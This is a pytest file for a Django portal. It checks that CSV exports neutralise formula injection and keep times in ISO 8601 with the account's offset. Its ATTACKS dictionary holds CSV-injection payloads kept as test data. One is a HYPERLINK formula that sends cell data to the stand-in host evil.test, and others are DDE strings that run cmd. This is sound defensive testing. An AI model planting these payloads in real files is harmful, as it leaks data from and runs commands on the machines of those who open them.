"""Finding 6 (medium): CSV exports allowed formula injection.

Cells beginning with =, +, -, @, tab or carriage return (notes, customer names, tags: clients can write
notes) were written verbatim. They are neutralised as OWASP recommends (a leading apostrophe), in every CSV
the portal writes, while real numbers (a negative value) stay numbers a spreadsheet reads as such.
"""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from tests.portal.mirror import call

pytestmark = [pytest.mark.django_db]

ATTACKS = {
    "=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")": "'=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def export(browser, account) -> list[dict[str, str]]:
    response = browser.get(
        reverse("portal:resource_export", args=[account.pk, "calls"]), {"sort": "start_time", "date_range": "all_time"}
    )
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tenant, login):
    start = datetime(2026, 3, 1, 15, 0, tzinfo=UTC)
    for n, attack in enumerate(ATTACKS):
        call(tenant.account, start=start.replace(minute=n), note=attack, customer_name=attack, source="Direct",
             value=Decimal("-12.50"), customer_phone_number="+14045550100")  # fmt: skip
    rows = export(login(tenant.staff), tenant.account)
    assert [row["Note"] for row in rows] == list(ATTACKS.values())
    assert [row["Caller"] for row in rows] == list(ATTACKS.values())
    assert {row["Value"] for row in rows} == {"-12.50"}  # a negative amount is still a number
    assert {row["Phone"] for row in rows} == {"+14045550100"}  # a plain number, not a formula


def test_times_are_iso_8601_with_the_accounts_offset(tenant, login):
    call(tenant.account, start=datetime(2026, 7, 1, 15, 0, tzinfo=UTC), note="summer")  # New York, EDT
    call(tenant.account, start=datetime(2026, 1, 5, 15, 0, tzinfo=UTC), note="winter")  # New York, EST
    rows = export(login(tenant.staff), tenant.account)
    assert [row["Start"] for row in rows] == ["2026-01-05T10:00:00-05:00", "2026-07-01T11:00:00-04:00"]
